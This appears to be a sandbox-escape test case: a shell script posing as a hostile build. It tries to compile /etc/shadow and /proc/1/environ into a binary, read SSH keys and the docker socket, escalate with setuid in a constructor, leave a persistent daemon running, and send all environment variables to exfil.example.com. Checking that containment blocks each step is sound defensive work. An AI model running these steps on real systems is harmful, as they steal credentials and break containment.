# id: PR-61.hostile-build   class: LEAK   environment: tools
# limits: memoryMb=512 pidsLimit=64 cpuSeconds=20 wallClockSeconds=30
# expect-phase: succeeded   expect-stdout: ^build over$   expect-not: HELD
# expect-audit: egress_denied host=exfil.example.com
# A build as a hostile repository has it: sources that include the host's
# secrets, a binary of endless bytes, a function that runs while the linker's
# product loads, a server that stays, words that go to somebody's host.
cd /work || exit 1
printf '#include "/etc/shadow"\n#include "/proc/1/environ"\nint main(void) { return 0; }\n' >a.c
gcc a.c -o a 2>&1 | grep -q 'root:' && echo "HELD shadow"
printf '.incbin "/proc/1/mem"\n' >b.s
as b.s -o b.o 2>/dev/null && echo "HELD memory of init"
for path in /proc/1/environ /root/.ssh/id_rsa /var/run/docker.sock /proc/1/root/etc/hostname; do
    cat "$path" 2>/dev/null | grep -q . && echo "HELD $path"
done
cat >c.c <<'X'
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void early(void) { if (setuid(0) == 0) system("echo HELD root"); }
int main(void) { if (fork() == 0) { setsid(); if (fork() == 0) for (;;) sleep(1); } return 0; }
X
gcc -O1 c.c -o server && ./server && ./server
python3 - <<'X'
import os, urllib.request
try:
    urllib.request.urlopen("http://exfil.example.com/?" + "&".join(os.environ), timeout=5).read()
    print("HELD an answer")
except OSError:
    pass
X
echo build over
